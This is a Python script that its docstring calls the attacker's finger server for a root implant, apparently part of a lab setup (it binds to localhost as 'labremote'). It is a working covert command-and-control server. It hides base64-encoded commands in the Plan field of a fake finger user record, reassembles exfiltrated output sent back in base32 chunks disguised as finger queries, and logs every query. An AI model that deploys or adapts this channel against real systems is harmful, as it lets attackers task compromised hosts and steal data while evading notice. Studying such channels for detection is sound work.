#!/usr/bin/env python3
"""The attacker's finger server (remote party, labremote; started with
CAP_NET_BIND_SERVICE for port 79): the root implant's plan and answers.
  poll:    'web07'                 -> a user record whose Plan: is
           'T<n> <base64 command>' when a task is queued (<queue>/<n>.cmd)
  answer:  'T<n>.<seq>.<base32 chunk>' and 'T<n>.end.<count>': the chunks
           reassembled into <out>/<n>.ans
Every query is logged (time, peer, query) to --log."""
import argparse, base64, os, socket, time

ap = argparse.ArgumentParser()
ap.add_argument('--port', type=int, default=79)
ap.add_argument('--queue', required=True)
ap.add_argument('--out', required=True)
ap.add_argument('--log', required=True)
ap.add_argument('--lifetime', type=int, default=900)
a = ap.parse_args()
os.makedirs(a.queue, exist_ok=True); os.makedirs(a.out, exist_ok=True)
chunks = {}

def log(peer, q):
    with open(a.log, 'a') as f:
        f.write('%s\t%s\t%s\n' % (time.strftime('%H:%M:%S', time.gmtime()), peer, q))

def record(plan):
    r = ('Login: web07          \t\t\tName: edge node 07\r\n'
         'Directory: /srv/edge/web07         \tShell: /bin/sh\r\n'
         'Last login Mon Dec  7 03:12 (UTC) on pts/0 from 10.8.0.6\r\n'
         'No mail.\r\n')
    return r + ('Plan:\r\n%s\r\n' % plan if plan else 'No Plan.\r\n')

def answer(q):
    if q in ('web07', '/W web07'):
        for n in sorted(os.listdir(a.queue), key=lambda x: (len(x), x)):
            if n.endswith('.cmd'):
                p = os.path.join(a.queue, n)
                cmd = open(p, 'rb').read()
                os.rename(p, p + '.sent')
                return record('T%s %s' % (n[:-4], base64.b64encode(cmd).decode()))
        return record(None)
    parts = q.split('.', 2)
    if len(parts) == 3 and parts[0].startswith('T'):
        task, seq, data = parts[0][1:], parts[1], parts[2]
        d = chunks.setdefault(task, {})
        if seq == 'end':
            raw = ''.join(d[k] for k in sorted(d))
            try:
                out = base64.b32decode(raw + '=' * (-len(raw) % 8))
            except Exception as e:
                out = ('(decode error %s)' % e).encode()
            with open(os.path.join(a.out, task + '.ans'), 'wb') as f:
                f.write(out)
        elif seq.isdigit():
            d[int(seq)] = data
        return 'finger: %s: no such user.\r\n' % parts[0]
    return 'finger: %s: no such user.\r\n' % q[:32]

s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', a.port)); s.listen(16); s.settimeout(2)
end = time.time() + a.lifetime
while time.time() < end:
    try:
        c, peer = s.accept()
    except socket.timeout:
        continue
    c.settimeout(5)
    try:
        q = b''
        while not q.endswith(b'\n') and len(q) < 8192:
            b = c.recv(4096)
            if not b:
                break
            q += b
        q = q.decode('latin-1').strip()
        log('%s:%d' % peer, q)
        c.sendall(answer(q).encode())
    except Exception as e:
        log('%s:%d' % peer, 'error %s' % e)
    finally:
        c.close()
